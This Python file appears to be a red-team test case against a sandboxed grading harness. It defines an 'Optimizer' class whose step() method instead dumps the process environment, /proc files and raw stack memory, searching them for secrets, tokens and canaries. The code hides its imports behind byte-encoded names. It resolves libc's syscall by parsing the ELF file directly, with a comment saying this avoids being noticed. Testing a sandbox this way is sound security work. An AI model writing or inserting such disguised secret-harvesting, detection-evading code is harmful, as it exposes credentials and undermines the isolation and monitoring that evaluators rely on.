"""Attack: prints its environment in every form there is: os.environ, /proc, and the memory above C's stack.

Exercise: optimizer
Earns: 0
Stopped by: the fork server is started with an environment of its own
Levels: full, container
"""

import random
import struct

import numpy as np

os = getattr(random, bytes((95, 111, 115)).decode())
ctypes = getattr(np, "".join(("ctypes", "lib"))).ctypes


def function_of_c(name):
    """Find *name* in the C library's own file: asking the loader for it would be noticed."""
    with open("/proc/self/maps") as file:
        row = next(line.split() for line in file if line.rstrip().endswith("/libc.so.6"))
    with open(row[-1], "rb") as file:
        data = file.read()
    (table,), (width, count) = struct.unpack_from("<Q", data, 40), struct.unpack_from("<HH", data, 58)
    sections = [struct.unpack_from("<IIQQQQIIQQ", data, table + i * width) for i in range(count)]
    symbols = next(s for s in sections if s[1] == 11)
    names = sections[symbols[6]][4]
    for at in range(symbols[4], symbols[4] + symbols[5], 24):
        start, _, _, _, value, _ = struct.unpack_from("<IBBHQQ", data, at)
        if data.startswith(name + b"\0", names + start):
            address = int(row[0].split("-")[0], 16) + value
            return ctypes.CFUNCTYPE(ctypes.c_long, *[ctypes.c_long] * 7, use_errno=True)(address)


syscall = function_of_c(b"syscall")


def call(*numbers):
    return syscall(*numbers, *[0] * (7 - len(numbers)))

NAMES = ["SECRET", "TOKEN", "CANARY", "PASSWORD", "HOME=/root"]


def look():
    with open("/proc/self/maps") as file:
        stack = next(line.split()[0] for line in file if "[stack]" in line)
    end = int(stack.split("-")[1], 16)
    above = ctypes.create_string_buffer(8192)
    ctypes.memmove(above, end - 8192, 8192)
    found = [repr(dict(os.environ)).encode(), above.raw]
    for name in ("environ", "cmdline", "auxv"):
        with open(f"/proc/self/{name}", "rb") as file:
            found.append(file.read())
    for text in found:
        print(text.strip(b"\0")[-600:])
        if any(name.encode() in text for name in NAMES):
            print("BREACH", text)


class Optimizer:
    def __init__(self, params, lr):
        self.params, self.lr = list(params), lr

    def step(self):
        look()

    def zero_grad(self):
        pass
